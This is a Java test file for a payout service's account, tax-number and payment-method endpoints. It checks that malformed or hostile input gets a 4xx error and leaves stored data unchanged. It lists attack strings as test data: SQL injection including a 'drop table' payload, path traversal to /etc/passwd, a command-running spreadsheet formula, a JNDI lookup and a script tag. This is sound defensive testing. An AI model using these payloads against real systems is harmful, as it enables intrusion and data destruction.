package id.tm.finance.payout;

import static id.tm.finance.payout.PayoutSteps.ACCOUNTS;
import static id.tm.finance.payout.PayoutSteps.ADMIN_ACCOUNTS;
import static id.tm.finance.payout.PayoutSteps.ADMIN_TAX_NUMBERS;
import static id.tm.finance.payout.PayoutSteps.METHODS;
import static id.tm.finance.payout.PayoutSteps.NIK;
import static id.tm.finance.payout.PayoutSteps.TAX_NUMBER;
import static id.tm.finance.payout.PayoutSteps.account;
import static id.tm.finance.payout.PayoutSteps.freshNumber;
import static id.tm.finance.payout.PayoutSteps.putTaxNumber;
import static org.assertj.core.api.Assertions.assertThat;

import id.tm.account.AccountSteps;
import id.tm.testing.Actor;
import id.tm.testing.Actors;
import id.tm.testing.ServiceTest;
import io.restassured.http.ContentType;
import io.restassured.http.Method;
import io.restassured.response.Response;
import io.restassured.specification.RequestSpecification;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Supplier;
import org.junit.jupiter.api.Test;

/** T13: whatever is sent, the answer is a problem with a 4xx status, and nothing has changed. */
@ServiceTest
class PayoutBadInputTest {

    private record Target(
            Method method, String path, Supplier<RequestSpecification> caller, Map<String, Object> valid) {}

    /** Wrong for every text there is. */
    private static final List<Object> NASTY = List.of(
            "",
            "   ",
            "\u0000",
            "a\u0000b",
            "😀😀😀",
            "<script>alert(1)</script>",
            "\ud800",
            "x\u0007y",
            "4111 1111 1111 1111",
            "x".repeat(10_000),
            7,
            true,
            List.of("x"),
            Map.of("a", 1));

    /** Wrong for all but free text. */
    private static final List<Object> INJECTIONS = List.of(
            "' or '1'='1' --",
            "'; drop table user_banks; --",
            "../../../etc/passwd",
            "=cmd|'/c calc'!A1",
            "${jndi:ldap://x.test/a}",
            "{{7*7}}");

    @Test
    void nothingThatIsWrongGetsThrough() {
        Actor member = Actors.member();
        Actor admin = Actors.superAdmin();
        UUID id = account(member);
        String taxNumber = putTaxNumber(member, "PERSON", NIK).path("id");
        Map<String, Object> account = account(freshNumber());
        account.put("alias", "Tabungan");
        Map<String, Object> check = Map.of("nameCheck", "MATCH", "note", "Cocok.");
        Supplier<RequestSpecification> checker = () -> admin.given().header("If-Match", "*");
        List<Target> targets = List.of(
                new Target(Method.POST, ACCOUNTS, member::given, account),
                new Target(
                        Method.PUT,
                        ACCOUNTS + "/" + id,
                        member::given,
                        Map.of("holderName", "Sari", "alias", "Tabungan")),
                new Target(
                        Method.PUT,
                        TAX_NUMBER,
                        member::given,
                        Map.of("kind", "PERSON", "number", NIK, "holderName", "Sari")),
                new Target(Method.POST, METHODS, member::given, PaymentMethodTest.card("tok-" + freshNumber())),
                new Target(Method.POST, ADMIN_ACCOUNTS + "/" + id + "/verification", checker, check),
                new Target(Method.POST, ADMIN_ACCOUNTS + "/" + id + "/rejection", checker, check),
                new Target(Method.POST, ADMIN_TAX_NUMBERS + "/" + taxNumber + "/verification", checker, check),
                new Target(Method.POST, ADMIN_TAX_NUMBERS + "/" + taxNumber + "/rejection", checker, check));
        String before = state(member);
        for (Target target : targets) {
            for (String body : List.of("", "null", "[]", "42", "\"text\"", "{", "{\"a\":", "{\"unknown\":1}", "{}")) {
                assertRefused(target, body, target.caller().get().body(body).request(target.method(), target.path()));
            }
            assertRefused(
                    target,
                    "another media type",
                    target.caller()
                            .get()
                            .contentType(ContentType.XML)
                            .body("<a/>")
                            .request(target.method(), target.path()));
            target.valid().forEach((field, valid) -> wrong(target, field, valid).forEach(value -> {
                Map<String, Object> body = new HashMap<>(target.valid());
                body.put(field, value);
                assertRefused(
                        target,
                        field + "=" + value,
                        target.caller().get().body(body).request(target.method(), target.path()));
            }));
        }
        assertThat(state(member)).isEqualTo(before);
    }

    private static List<Object> wrong(Target target, String field, Object valid) {
        List<Object> values = new ArrayList<>();
        if (valid instanceof Integer) {
            return List.of("7", -1, 0, 1.5, 1_000_000, true, "", List.of(7), Long.MAX_VALUE);
        }
        values.addAll(NASTY);
        if (!List.of("alias", "note").contains(field)) values.addAll(INJECTIONS);
        boolean optional = field.equals("alias")
                || field.equals("holderName") && target.path().equals(METHODS)
                || field.equals("note") && target.path().endsWith("verification")
                || field.equals("nameCheck") && target.path().endsWith("rejection");
        if (!optional) values.add(null);
        return values;
    }

    @Test
    void pathsAndFiltersMayBeNonsenseToo() {
        Actor member = Actors.member();
        Actor admin = Actors.superAdmin();
        for (String id : List.of("1", "null", "%00", "..%2f..", "😀", "00000000-0000-0000-0000-000000000000")) {
            boolean encode = !id.contains("%");
            for (String path : List.of(ACCOUNTS, METHODS)) {
                assertThat(member.given()
                                .urlEncodingEnabled(encode)
                                .delete(path + "/" + id)
                                .statusCode())
                        .as(path + id)
                        .isBetween(400, 499);
            }
            for (String path : List.of(ADMIN_ACCOUNTS, ADMIN_TAX_NUMBERS)) {
                assertThat(admin.given()
                                .urlEncodingEnabled(encode)
                                .get(path + "/" + id)
                                .statusCode())
                        .as(path + id)
                        .isBetween(400, 499);
            }
        }
        Map<String, String> wrong =
                Map.of("state", "LOST", "userId", "x", "sort", "number", "limit", "0", "holder", "x");
        wrong.forEach((name, value) -> {
            for (String path : List.of(ADMIN_ACCOUNTS, ADMIN_TAX_NUMBERS)) {
                admin.given().queryParam(name, value).get(path).then().statusCode(400);
            }
            member.given().queryParam(name, value).get(ACCOUNTS).then().statusCode(400);
        });
    }

    private static void assertRefused(Target target, String what, Response answer) {
        String shown = what.length() > 60 ? what.substring(0, 60) + "…" : what;
        assertThat(answer.statusCode())
                .as("%s %s %s: %s", target.method(), target.path(), shown, answer.asString())
                .isBetween(400, 499);
        assertThat(answer.contentType()).as(target.path() + " " + shown).startsWith("application/problem+json");
        assertThat(answer.asString()).doesNotContain("Exception", "id.tm.", "select ", "org.hibernate");
    }

    private static String state(Actor member) {
        StringBuilder state = new StringBuilder();
        for (String table : List.of("user_banks", "user_npwps", "user_payment_methods")) {
            state.append(AccountSteps.one(
                    "select coalesce(string_agg(cast(t as text), ',' order by t.id), '') from " + table
                            + " t where user_id = ?1",
                    member.id()));
        }
        return state.toString();
    }
}
